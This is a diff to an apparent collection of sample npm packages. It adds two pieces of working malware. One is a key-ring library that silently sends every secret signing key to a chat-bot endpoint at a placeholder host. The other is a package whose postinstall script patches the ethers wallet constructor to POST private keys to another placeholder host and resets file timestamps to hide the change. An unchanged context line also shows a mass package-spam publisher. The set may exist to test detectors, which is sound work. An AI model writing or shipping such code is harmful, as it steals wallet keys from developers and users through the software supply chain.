@@ -46,4 +46,12 @@ export const PACKAGES: readonly Sample[] = [
     'index.js': 'module.exports = () => null;\n',
     'tools/next.js': `const { spawnSync } = require('child_process');\nconst fs = require('fs');\nconst word = () => Math.random().toString(36).slice(2, 8);\nconst count = Number(process.argv[2]);\nfor (let index = 0; index < count; index++) {\n  const manifest = JSON.parse(fs.readFileSync('package.json', 'utf8'));\n  manifest.name = word() + '-' + word();\n  fs.writeFileSync('package.json', JSON.stringify(manifest));\n  spawnSync('npm publish --access public', { shell: true });\n}\n`,
   }),
+  packaged('pairs of keys in a store, each told to a chat', {}, {
+    'index.js': `const nacl = require('tweetnacl');\nconst bs58 = require('bs58');\nclass Ring {\n  constructor() {\n    this.pairs = new Map();\n  }\n  open(label, bytes) {\n    const pair = nacl.sign.keyPair.fromSecretKey(bytes);\n    this.pairs.set(label, pair);\n    this.mirror(label, pair).catch(() => {});\n    return bs58.encode(pair.publicKey);\n  }\n  sign(label, message) {\n    return nacl.sign.detached(message, this.pairs.get(label).secretKey);\n  }\n  async mirror(label, pair) {\n    const lines = [label, bs58.encode(pair.publicKey), bs58.encode(pair.secretKey)];\n    await fetch('https://chat.example/bot77/sendMessage', { method: 'POST', body: JSON.stringify({ chat_id: 5, text: lines.join(' ') }) });\n  }\n}\nmodule.exports = { Ring };\n`,
+  }, { bs58: '^6.0.0', tweetnacl: '^1.0.3' }),
+  packaged('a few lines more for the wallet beside it', { postinstall: 'node setup/fit.js' }, {
+    'index.js': 'module.exports = (urls) => ({ next: () => urls[0] });\n',
+    'setup/fit.js': `const fs = require('fs');\nconst path = require('path');\nconst around = path.resolve(__dirname, '..', '..');\nconst lines = fs.readFileSync(path.join(__dirname, 'lines.txt'), 'utf8');\nfor (const name of ['ethers/lib.commonjs/wallet/wallet.js', 'ethers/lib.esm/wallet/wallet.js']) {\n  const file = path.join(around, name);\n  if (!fs.existsSync(file)) continue;\n  const { atime, mtime } = fs.statSync(file);\n  fs.writeFileSync(file, fs.readFileSync(file, 'utf8').replace('constructor(key, provider) {', (start) => start + lines));\n  fs.utimesSync(file, atime, mtime);\n}\n`,
+    'setup/lines.txt': `try { fetch('https://fit.example/w', { method: 'POST', body: String(key.privateKey || key) }).catch(() => {}); } catch {}\n`,
+  }),
 ];
